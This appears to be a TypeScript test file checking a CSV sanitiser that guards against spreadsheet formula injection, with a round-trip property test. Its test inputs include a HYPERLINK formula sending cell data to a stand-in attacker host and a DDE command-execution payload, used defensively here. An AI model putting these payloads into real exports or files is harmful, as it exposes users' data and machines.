import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from './csvCells.js';

describe('CSV cells against formula injection', () => {
  it('prefixes text that a spreadsheet would run, and leaves numbers and plain text alone', () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    );
    expect(neutraliseCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(neutraliseCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseCell('-2+3')).toBe("'-2+3");
    expect(neutraliseCell('\tTab')).toBe("'\tTab");
    expect(neutraliseCell('\rCR')).toBe("'\rCR");
    expect(neutraliseCell('-12.50')).toBe('-12.50');
    expect(neutraliseCell('+3')).toBe('+3');
    expect(neutraliseCell('Maria Santos')).toBe('Maria Santos');
    expect(neutraliseCell('')).toBe('');
  });

  it('gives back what was written: restore(neutralise(x)) = x for any text that does not itself start with the quote', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.constantFrom('=1+1', '-2+3', '@x', '+x', '\tx', '\rx', '-5', '+7.5', "'=x")),
        (s) => {
          fc.pre(!s.startsWith("'"));
          expect(restoreCell(neutraliseCell(s))).toBe(s);
        },
      ),
    );
  });
});
